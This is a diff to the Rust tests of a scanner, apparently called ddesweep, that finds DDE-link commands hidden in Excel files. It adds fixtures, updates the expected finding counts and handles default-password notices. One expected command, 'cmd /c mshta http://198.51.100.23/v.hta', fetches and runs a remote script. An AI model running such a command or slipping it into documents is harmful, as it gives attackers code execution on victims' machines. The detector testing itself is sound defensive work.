@@ -225,6 +225,21 @@ const POSITIVES: &[(&str, &str, &[&str])] = &[
         "ddesweep.document.equation_editor",
         &[""],
     ),
+    (
+        "excel-legacy.xls",
+        "ddesweep.document.dde_link",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "excel-binary.xlsb",
+        "ddesweep.document.dde_link",
+        &["cmd /c notepad.exe"],
+    ),
+    (
+        "excel-legacy-velvet.xls",
+        "ddesweep.document.dde_link",
+        &["cmd /c mshta http://198.51.100.23/v.hta"],
+    ),
 ];
 
 /// Encrypted positives, each with two findings (the default password and the DDE link inside):
@@ -243,16 +258,23 @@ const MIXED: &[(&str, &[(&str, &str)])] = &[(
     ],
 )];
 
+/// Findings without a command that positive fixtures also yield: (fixture, rule).
+const NOTICES: &[(&str, &str)] = &[(
+    "excel-legacy-velvet.xls",
+    "ddesweep.document.default_password",
+)];
+
 #[test]
 fn positive_fixtures_yield_their_exact_commands() {
     let folder = testdata("documents/positive");
     let run = scan(&[&folder], &[]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     for (name, rule, commands) in POSITIVES {
+        let notices = NOTICES.iter().filter(|(n, _)| n == name).count();
         let found: Vec<(String, String, String)> = run
             .findings()
             .into_iter()
-            .filter(|(path, _, _)| path == name)
+            .filter(|(path, rule, _)| path == name && !NOTICES.contains(&(name, rule.as_str())))
             .collect();
         let mut got: Vec<&str> = found.iter().map(|(_, _, c)| c.as_str()).collect();
         got.sort_unstable();
@@ -262,7 +284,7 @@ fn positive_fixtures_yield_their_exact_commands() {
         }
         let artifact = run.artifact(name);
         assert_eq!(artifact["status"], "analyzed", "{name}: {artifact}");
-        assert_eq!(artifact["findings"], commands.len(), "{name}");
+        assert_eq!(artifact["findings"], commands.len() + notices, "{name}");
     }
     for name in ENCRYPTED_POSITIVES {
         assert_eq!(run.commands_in(name), ["", "cmd /c calc.exe"], "{name}");
@@ -287,7 +309,8 @@ fn positive_fixtures_yield_their_exact_commands() {
     assert_eq!(run.manifest["totals"]["analyzed"], fixtures);
     let expected: usize = POSITIVES.iter().map(|(_, _, c)| c.len()).sum::<usize>()
         + MIXED.iter().map(|(_, f)| f.len()).sum::<usize>()
-        + 2 * ENCRYPTED_POSITIVES.len();
+        + 2 * ENCRYPTED_POSITIVES.len()
+        + NOTICES.len();
     assert_eq!(run.manifest["totals"]["findings"], expected);
 }
 
@@ -349,7 +372,7 @@ fn negative_fixtures_yield_no_findings() {
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
     assert_eq!(run.rows.len(), 0, "no DDE document, no context rows");
-    assert_eq!(run.manifest["totals"]["seen"], 13);
-    assert_eq!(run.manifest["totals"]["analyzed"], 13);
+    assert_eq!(run.manifest["totals"]["seen"], 14);
+    assert_eq!(run.manifest["totals"]["analyzed"], 14);
     assert_eq!(run.manifest["totals"]["findings"], 0);
 }
